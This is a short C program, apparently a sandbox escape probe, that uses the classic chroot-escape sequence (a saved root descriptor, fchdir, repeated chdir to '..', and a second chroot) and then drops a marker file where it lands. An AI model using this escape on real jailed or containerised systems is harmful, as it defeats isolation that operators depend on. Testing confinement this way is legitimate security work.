/* Tries to leave its root in the classic way, and leaves a mark where it arrives. */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    int top = open("/", O_RDONLY);
    mkdir("/deeper", 0755);
    if (top < 0 || chroot("/deeper") != 0 || fchdir(top) != 0) return 1;
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) return 2;
    return open("silt-was-here", O_WRONLY | O_CREAT, 0600) < 0 ? 3 : 0;
}
